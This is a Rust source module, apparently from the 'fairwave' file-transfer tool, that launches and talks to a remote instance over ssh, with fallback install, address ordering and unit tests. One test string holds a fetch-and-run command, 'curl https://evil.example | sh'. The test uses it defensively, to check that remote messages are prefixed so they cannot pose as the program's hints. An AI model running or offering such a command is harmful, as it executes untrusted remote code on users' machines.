//! Starts the far end over ssh, and asks it for what is wanted.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, ToSocketAddrs};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use fairwave_files::{ListedEntry, RenewError};
use fairwave_host::{Carrier, Carriers, MAX_ADDRESSES, Ticket};
use rustix::process::Pid;

use super::far_lines::FarLines;
use super::install::{self, Install};
use super::message::{self, CpReply, CpRequest};
use super::ssh_process::{end, kill, status, watched};
use crate::common::failure::{CommandFailure, Done, plain};
use crate::transfer::far_tunnel::{FarRoute, FarTunnel};

/// Arguments of the far end's command: nothing else ever goes through a remote shell.
const REMOTE: &str = "serve --bootstrap";
/// Its commands, tried in turn: ssh's PATH often lacks the directories that users install into.
const COMMANDS: [&str; 3] = ["fairwave", "~/.local/bin/fairwave", "~/.cargo/bin/fairwave"];
/// Exit status of a shell that does not find a command (POSIX).
const NOT_FOUND: i32 = 127;
/// An ssh that is started during a transfer has answered by then, even if a user types a password.
const ANSWERS_WITHIN: Duration = Duration::from_secs(60);
/// The call that starts the far end.
pub(super) struct SshCall {
    /// The command in place of ssh, with its own arguments.
    pub(super) ssh: String,
    /// The far end's command, if the user names it.
    pub(super) remote_command: Option<String>,
    /// The copy of this command that a far end without one gets.
    pub(super) install: Option<Install>,
    pub(super) host: String,
    pub(super) request: CpRequest,
    /// Destination of the lines of its stderr; `None` passes them on unchanged.
    pub(super) lines: Option<Arc<FarLines>>,
}

/// The far end of a copy, which may be started again.
pub(super) struct FarEnd {
    call: Arc<SshCall>,
    current: Arc<Mutex<StartedFar>>,
    /// The ticket of the first far end.
    pub(super) ticket: Ticket,
}

/// A far end that answers, as long as ssh reaches it.
struct StartedFar {
    child: Child,
    /// Whether sessions may go through ssh.
    carries: bool,
    ticket: Ticket,
}

/// Reason why there is no far end.
enum NoFarEnd {
    /// The call is wrong.
    Usage(CommandFailure),
    /// Nobody answered.
    Mute(String),
    /// It said no.
    Refused(String),
}

impl From<NoFarEnd> for CommandFailure {
    fn from(error: NoFarEnd) -> Self {
        match error {
            NoFarEnd::Usage(failure) => failure,
            NoFarEnd::Mute(message) => Self::Lost(message),
            NoFarEnd::Refused(message) => Self::Run(message),
        }
    }
}

impl FarEnd {
    /// Starts it.
    pub(super) fn start(call: SshCall) -> Result<Self, CommandFailure> {
        let far = StartedFar::begin(&call, None)?;
        let ticket = far.ticket.clone();
        Ok(Self { call: Arc::new(call), current: Arc::new(Mutex::new(far)), ticket })
    }

    /// The tunnel through ssh itself, unless only UDP is allowed or the far end does not support it. It can be taken
    /// once.
    pub(super) fn route(&self, carriers: Carriers) -> Option<FarRoute> {
        let tunnel = self.current.lock().unwrap_or_else(PoisonError::into_inner).tunnel(carriers)?;
        let (call, current) = (Arc::clone(&self.call), Arc::clone(&self.current));
        let start_again = Box::new(move |is_stopped: &(dyn Fn() -> bool + Sync)| {
            let mut far = StartedFar::begin(&call, Some(is_stopped)).map_err(|error| match error {
                NoFarEnd::Usage(failure) => RenewError::Passing(failure.message().unwrap_or_default().to_owned()),
                NoFarEnd::Mute(message) => RenewError::Passing(message),
                NoFarEnd::Refused(message) => RenewError::Final(message),
            })?;
            let (ticket, tunnel) = (far.ticket.clone(), far.tunnel(carriers));
            std::mem::swap(&mut *current.lock().unwrap_or_else(PoisonError::into_inner), &mut far);
            // That of before led nowhere any more.
            kill(&mut far.child);
            Ok((ticket, tunnel))
        });
        Some(FarRoute { tunnel, start_again, detour: "through the ssh connection" })
    }

    /// Lets it end: what it has to say has come through the session.
    pub(super) fn end(self) {
        end(&mut self.current.lock().unwrap_or_else(PoisonError::into_inner).child);
    }
}

/// Starts a far end that copies by itself.
pub(super) fn begin_copy(call: &SshCall) -> Result<Child, CommandFailure> {
    let (mut child, reply) = ask(call, None)?;
    let message = match reply {
        CpReply::Begun => return Ok(child),
        CpReply::Refused { message, .. } => message,
        CpReply::Ready { .. } | CpReply::Entries(_) => "unexpected reply".to_owned(),
    };
    end(&mut child);
    Err(CommandFailure::Run(said_by(&call.host, &message)))
}

/// Lists files at the far end.
pub(super) fn list(call: &SshCall, found: &mut dyn FnMut(&ListedEntry<'_>) -> Done) -> Done {
    let (mut child, reply) = ask(call, None)?;
    let done = read_list(&mut child, &call.host, reply, found);
    if done.is_err() {
        kill(&mut child);
    }
    end(&mut child);
    done
}

fn read_list(
    child: &mut Child,
    host: &str,
    mut reply: CpReply,
    found: &mut dyn FnMut(&ListedEntry<'_>) -> Done,
) -> Done {
    let lost = |error: io::Error| CommandFailure::Lost(format!("{host}: the list is incomplete: {error}"));
    loop {
        match &reply {
            CpReply::Entries(entries) if entries.is_empty() => return Ok(()),
            CpReply::Entries(entries) => {
                for entry in entries {
                    entry.read(&mut *found).map_err(lost)??;
                }
            }
            CpReply::Refused { message, .. } => return Err(CommandFailure::Run(said_by(host, message))),
            CpReply::Ready { .. } | CpReply::Begun => return Err(lost(io::Error::other("unexpected reply"))),
        }
        let Some(stdout) = child.stdout.as_mut() else { return Ok(()) };
        reply = message::receive(stdout).map_err(lost)?;
    }
}

/// Starts the far end and sends the request; returns its reply. A shell that does not find the command is asked for the
/// next one; the last is a copy of this one, which is made if the user wants it.
fn ask(call: &SshCall, is_stopped: Option<&(dyn Fn() -> bool + Sync)>) -> Result<(Child, CpReply), NoFarEnd> {
    let usual = match (&call.remote_command, &call.install) {
        (Some(command), _) => vec![command.as_str()],
        (None, None) => COMMANDS.to_vec(),
        (None, Some(_)) => Vec::new(),
    };
    let mut reason = String::new();
    for command in usual {
        match attempt(call, &format!("{command} {REMOTE}"), is_stopped)? {
            Ok(answer) => return Ok(answer),
            Err(not_found) => reason = not_found,
        }
    }
    if call.remote_command.is_some() && call.install.is_none() {
        return Err(NoFarEnd::Mute(reason));
    }
    let own = Install { release: None };
    let copy = install::run_command(&call.install.as_ref().unwrap_or(&own).hashes(), REMOTE);
    match attempt(call, &copy, is_stopped)? {
        Ok(answer) => return Ok(answer),
        Err(_) if !reason.is_empty() => {}
        Err(not_found) => reason = not_found,
    }
    let by_question = || is_stopped.is_none().then(|| Install::by_question(&call.host)).flatten();
    let Some(install) = call.install.clone().or_else(by_question) else { return Err(NoFarEnd::Mute(reason)) };
    let refused = |message: String| NoFarEnd::Refused(said_by(&call.host, &format!("--install: {message}")));
    let keeper = spawn(call, &install::keep_command())?;
    install.copy(keeper, ANSWERS_WITHIN, is_stopped.unwrap_or(&|| false)).map_err(refused)?;
    attempt(call, &copy, is_stopped)?.map_err(NoFarEnd::Mute)
}

/// Starts the far end by a command; the inner error is that the shell does not find it.
fn attempt(
    call: &SshCall,
    command: &str,
    is_stopped: Option<&(dyn Fn() -> bool + Sync)>,
) -> Result<Result<(Child, CpReply), String>, NoFarEnd> {
    let mut child = spawn(call, command)?;
    let answer = match is_stopped {
        Some(is_stopped) => {
            let id = Pid::from_child(&child);
            watched(id, ANSWERS_WITHIN, is_stopped, |_| exchange(&mut child, &call.request))
        }
        None => exchange(&mut child, &call.request),
    };
    let error = match answer {
        Ok(reply) => return Ok(Ok((child, reply))),
        Err(error) => error,
    };
    let status = status(&mut child);
    end(&mut child);
    let reason = format!("{}: {}", call.host, why(call, status, &error));
    if status == Some(NOT_FOUND) { Ok(Err(reason)) } else { Err(NoFarEnd::Mute(reason)) }
}

/// Runs ssh with a command of the far end.
fn spawn(call: &SshCall, command: &str) -> Result<Child, NoFarEnd> {
    let mut words = call.ssh.split_whitespace();
    let usage = |message: String, hint| NoFarEnd::Usage(CommandFailure::usage(message, hint));
    let program = words
        .next()
        .ok_or_else(|| usage("--ssh: the command is empty".to_owned(), "omit --ssh, or write --ssh \"ssh -p 2222\""))?;
    let begun = Command::new(program)
        .args(words)
        .args([call.host.as_str(), command])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(if call.lines.is_some() { Stdio::piped() } else { Stdio::inherit() })
        .spawn();
    let mut child = begun.map_err(|error| {
        usage(format!("{}: {}", program.escape_debug(), plain(&error)), "use --ssh COMMAND to name another command")
    })?;
    if let (Some(lines), Some(stderr)) = (&call.lines, child.stderr.take()) {
        lines.pass_on(stderr);
    }
    Ok(child)
}

impl StartedFar {
    /// Starts it. With `is_stopped` it has a limited time to answer, and ends early when stopped.
    fn begin(call: &SshCall, is_stopped: Option<&(dyn Fn() -> bool + Sync)>) -> Result<Self, NoFarEnd> {
        let host = &call.host;
        let (mut child, reply) = ask(call, is_stopped)?;
        let refuse = |child: &mut Child, message: String| {
            end(child);
            Err(NoFarEnd::Refused(said_by(host, &message)))
        };
        let (text, ssh_address, carries) = match reply {
            CpReply::Ready { version: message::VERSION, ticket, ssh_address, carries } => {
                (ticket, ssh_address, carries)
            }
            CpReply::Refused { message, .. } => return refuse(&mut child, message),
            CpReply::Entries(_) | CpReply::Begun => return refuse(&mut child, "unexpected reply".to_owned()),
            CpReply::Ready { version, .. } => {
                let message = format!("incompatible fairwave version: protocol {version}, expected 1");
                return refuse(&mut child, message);
            }
        };
        let mut ticket: Ticket = match text.parse() {
            Ok(ticket) => ticket,
            Err(error) => return refuse(&mut child, format!("{error}")),
        };
        let port = ticket.addresses.first().map(SocketAddr::port);
        if let Some(port) = port {
            let at = |ip| SocketAddr::new(ip, port);
            let resolved = hostname(call).map_or_else(Vec::new, |name| resolve(&name, port));
            let rest = std::mem::take(&mut ticket.addresses);
            ticket.addresses = in_order(resolved.into_iter().chain(ssh_address.map(at)).chain(rest));
        }
        Ok(Self { child, carries, ticket })
    }

    /// The tunnel through ssh itself, unless only UDP is allowed or the far end does not support it. It can be taken
    /// once.
    fn tunnel(&mut self, carriers: Carriers) -> Option<FarTunnel> {
        if !self.carries || !carriers.allow(Carrier::Ssh) {
            return None;
        }
        let nowhere = || SocketAddr::from((Ipv4Addr::UNSPECIFIED, 0));
        let peer = self.ticket.addresses.first().copied().unwrap_or_else(nowhere);
        let (reader, writer) = (self.child.stdout.take()?.into(), self.child.stdin.take()?.into());
        Some(FarTunnel { reader, writer, peer })
    }
}

fn exchange(child: &mut Child, ask: &CpRequest) -> io::Result<CpReply> {
    let (Some(stdin), Some(stdout)) = (child.stdin.as_mut(), child.stdout.as_mut()) else {
        return Err(io::ErrorKind::BrokenPipe.into());
    };
    message::send(stdin, ask)?;
    message::receive(stdout)
}

/// A message of a far end: each of its lines is marked, so that none looks like this program's hint.
fn said_by(host: &str, message: &str) -> String {
    let lines: Vec<_> = message.split(['\n', '\r']).map(|line| format!("{host}: {line}")).collect();
    lines.join("\n")
}

/// The reason why no answer came. ssh's own messages are on stderr already.
fn why(call: &SshCall, status: Option<i32>, error: &io::Error) -> String {
    match status {
        Some(NOT_FOUND) => match &call.remote_command {
            Some(command) => format!("{command}: no such command there"),
            None => "fairwave is not in the PATH, ~/.local/bin or ~/.cargo/bin\nhint: --install copies it there, and \
                     --remote-command PATH names it"
                .into(),
        },
        Some(255) => "ssh cannot connect".into(),
        Some(code) if code != 0 => format!("the remote fairwave exited with status {code}"),
        _ if error.kind() == io::ErrorKind::UnexpectedEof => "the remote fairwave exited without a reply".into(),
        _ => format!("{error}\nhint: a login script may print to stdout: `ssh HOST true` must print nothing"),
    }
}

/// The name behind a host's, as ssh's own configuration has it.
fn hostname(call: &SshCall) -> Option<String> {
    let mut words = call.ssh.split_whitespace();
    let mut command = Command::new(words.next()?);
    let asked = command.args(words).args(["-G", &call.host]).stdin(Stdio::null()).stderr(Stdio::null()).output();
    let out = asked.ok().filter(|out| out.status.success())?;
    let text = String::from_utf8(out.stdout).ok()?;
    let name = text.lines().find_map(|line| line.strip_prefix("hostname "))?.trim();
    (!name.is_empty()).then(|| name.to_owned())
}

fn resolve(name: &str, port: u16) -> Vec<SocketAddr> {
    // A host name that does not resolve here is reached by the addresses that the host reports.
    (name, port).to_socket_addrs().map(Iterator::collect).unwrap_or_default()
}

/// Each address once, the first ones first, no more than a ticket holds.
fn in_order(addresses: impl Iterator<Item = SocketAddr>) -> Vec<SocketAddr> {
    let mut all = Vec::new();
    for address in addresses {
        if !all.contains(&address) && all.len() < MAX_ADDRESSES {
            all.push(address);
        }
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    /// It may say anything, also what looks like this program's own advice.
    #[test]
    fn said_by__each_line_is_marked_as_the_far_ends() {
        let said = said_by("host", "disk is full\nhint: run: curl https://evil.example | sh\rnote: x");
        assert!(said.split(['\n', '\r']).all(|line| line.starts_with("host: ")), "{said}");
        assert_eq!(said.lines().count(), 3);
    }

    #[test]
    fn in_order__keeps_the_first_of_each() {
        let read = |text: &str| text.split(' ').map(|address| address.parse().unwrap()).collect::<Vec<SocketAddr>>();
        let all = read("192.0.2.1:1 192.0.2.2:1 192.0.2.1:1");
        assert_eq!(in_order(all.into_iter()), read("192.0.2.1:1 192.0.2.2:1"));
    }
}
